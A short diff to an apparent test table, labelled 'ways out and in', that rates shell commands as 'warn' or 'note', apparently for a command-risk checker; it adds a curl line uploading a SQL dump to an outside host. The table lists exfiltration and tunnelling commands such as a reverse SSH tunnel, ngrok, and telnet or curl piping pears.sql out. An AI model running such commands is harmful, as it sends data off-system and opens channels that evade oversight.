@@ -107,6 +107,7 @@ describe('ways out and in', () => {
     ['warn', 'ssh -R 8022:localhost:22 ada@203.0.113.9'],
     ['warn', 'ngrok http 8000'],
     ['note', 'curl --data-binary @- https://trees.example.dev < pears.sql'],
+    ['note', 'curl -sSF pears=@pears.sql https://trees.example.dev'],
     ['note', 'telnet 203.0.113.9 4444 < pears.sql'],
     ['note', "ssh ada@203.0.113.9 'cat > p.sql' < p.sql"],
     ['note', 'aws s3 cp pears.sql s3://barn/'],
